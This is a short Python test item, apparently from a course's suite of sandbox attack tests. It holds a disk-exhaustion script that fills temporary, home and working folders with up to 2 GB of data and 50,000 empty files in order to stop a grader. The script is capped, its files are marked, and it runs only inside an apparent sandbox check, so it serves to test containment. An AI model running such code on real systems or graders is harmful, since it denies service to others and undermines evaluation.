"""A full disk stops whoever writes to it next, such as the grader. Many files get around a limit
on the size of one, and empty ones around a limit on bytes. (Here 2 GB and 50,000 files at most,
all of them marked.)"""

CODE = """\
import os

total, names = 0, 0
folders = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()]
for folder in folders if shut_in() else []:
    try:
        folder = os.path.join(folder, "DLCOURSE_ATTACK-disk")
        os.mkdir(folder)
        for number in range(16):
            with open(os.path.join(folder, f"{number}"), "wb", 0) as file:
                for _ in range(8):
                    total += file.write(b"x" * 2**22) if total < 2**31 else 0
    except OSError:
        pass
for folder in folders if shut_in() else []:
    try:
        for number in range(50_000 - names):
            open(os.path.join(folder, "DLCOURSE_ATTACK-disk", f"empty-{number}"), "w").close()
            names += 1
    except OSError:
        pass
if total >= 2**31:
    boast("2 GB on the disk")
if names >= 50_000:
    boast("50,000 files")
"""
